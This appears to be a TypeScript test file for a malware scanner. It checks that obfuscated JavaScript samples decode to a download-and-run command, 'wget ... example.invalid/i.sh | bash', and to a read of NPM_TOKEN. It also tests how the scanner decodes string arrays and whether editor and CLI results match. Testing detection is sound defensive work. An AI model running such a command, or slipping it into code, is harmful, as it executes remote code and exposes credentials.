import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { decodeStringArray } from '../../../shared/scanner/analysis/stringArray';
import { scanFileText } from '../../../shared/scanner/fileScan';
import { IncrementalFileScanner } from '../../../shared/scanner/incremental/documentScanner';
import { analyze } from './helpers';

const ADVERSARIAL = join(__dirname, '../../corpus/scanner/adversarial');
/** javascript-obfuscator output of one download-and-run sample (see each file's first line). */
const SAMPLES = [
  '299-spawn-obfuscator-string-array.js',
  '300-spawn-obfuscator-wrappers.js',
  '301-spawn-obfuscator-base64.js',
  '302-spawn-obfuscator-rc4.js',
  '303-spawn-obfuscator-v2-decoder.js',
  '304-spawn-obfuscator-medium-preset.js',
  '305-spawn-obfuscator-high-preset.js',
];
const read = (name: string) => readFileSync(join(ADVERSARIAL, name), 'utf8');

describe('obfuscator string arrays: decoder calls fold to the strings they return', () => {
  for (const name of SAMPLES) {
    it(name, () => {
      const result = analyze(read(name));
      // Only the right rotation, offset and decoding give back the sample's exact command and names.
      const commands = result.policyFacts.commands.map((c) => c.command.command);
      assert.deepEqual(commands, ['wget -qO- https://example.invalid/i.sh | bash']);
      assert.deepEqual(result.policyFacts.envReads.map((r) => r.name), ['NPM_TOKEN']);
      const ids = new Set(result.hits.map((h) => h.ruleId));
      for (const id of ['SEC-SPAWN-001', 'SEC-FUNC-001', 'SEC-EXFIL-001', 'SEC-OBFUSC-001']) assert.ok(ids.has(id), `${id} in ${[...ids].join(', ')}`);
      assert.equal(ids.has('SEC-DIMPORT-001'), false);
      const obfuscated = result.hits.filter((h) => h.ruleId === 'SEC-OBFUSC-001').map((h) => h.message);
      assert.ok(obfuscated.includes('"child_process" is assembled at runtime (string array)'), obfuscated.join('\n'));
    });
  }

  it('a checksum no rotation satisfies folds nothing (the loader call stays a dynamic import)', () => {
    const text = read(SAMPLES[0]);
    const tampered = text.replace(/\}\(_0x[0-9a-f]+,(0x[0-9a-f]+)\)\);/, (all, target: string) => all.replace(target, `0x${(parseInt(target, 16) + 1).toString(16)}`));
    assert.notEqual(tampered, text);
    const ids = new Set(analyze(tampered).hits.map((h) => h.ruleId));
    assert.equal(ids.has('SEC-SPAWN-001'), false);
    assert.ok(ids.has('SEC-DIMPORT-001'));
  });

  it('reads the array with the offset and the rotation; outside it, or RC4 without a key, gives nothing', () => {
    const decoder = { strings: ['a', 'b', 'c'], offset: 0x10, rotation: 1, encoding: 'none' as const };
    assert.deepEqual([0x10, 0x11, 0x12].map((i) => decodeStringArray(decoder, i)), ['b', 'c', 'a']);
    assert.equal(decodeStringArray(decoder, 0x13), null);
    assert.equal(decodeStringArray(decoder, 0x0f), null);
    assert.equal(decodeStringArray({ ...decoder, encoding: 'rc4' }, 0x10), null);
    // The obfuscator's base64 alphabet starts with lower case: "Y2hpbGQ=" in it is "y2HPBgq=".
    assert.equal(decodeStringArray({ strings: ['y2HPBgq='], offset: 0, rotation: 0, encoding: 'base64' }, 0), 'child');
  });

  it('a file with a string array is always scanned whole in the editor, with the same result as the CLI', () => {
    const text = read(SAMPLES[0]);
    const options = { relativePath: 'o.js', extensionId: 'e', today: '2026-01-01' };
    const scanner = new IncrementalFileScanner();
    const comparable = (r: ReturnType<typeof scanFileText>) => r.findings.map((f) => [f.ruleId, f.line, f.column, f.message]);
    const benign = 'const a = 1;\nfunction f() { return a; }\n';
    for (const version of [benign, benign + text, benign + text.replace("'child_process'", "'child_procesx'"), text]) {
      assert.deepEqual(comparable(scanner.scan(version, options)), comparable(scanFileText(version, options)));
      if (version !== benign) assert.notEqual(scanner.lastUpdate, 'incremental');
    }
  });
});
